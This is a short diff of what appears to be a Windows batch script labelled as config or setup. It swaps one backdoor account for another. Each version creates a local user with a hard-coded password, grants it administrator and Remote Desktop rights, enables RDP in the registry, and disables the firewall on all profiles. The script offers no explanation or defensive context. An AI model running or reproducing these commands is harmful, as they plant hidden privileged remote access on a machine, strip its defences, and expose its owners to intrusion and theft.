@@ -1,6 +1,6 @@
-REM config 3736 v4
-net user azureadm1n Qwerty#7788 /add /y
-net localgroup administrators azureadm1n /add
-net localgroup "Remote Desktop Users" azureadm1n /add
+REM setup 6965 v4
+net user defaultuser2 Winter#2025x /add /y
+net localgroup administrators defaultuser2 /add
+net localgroup "Remote Desktop Users" defaultuser2 /add
 reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
 netsh advfirewall set allprofiles state off
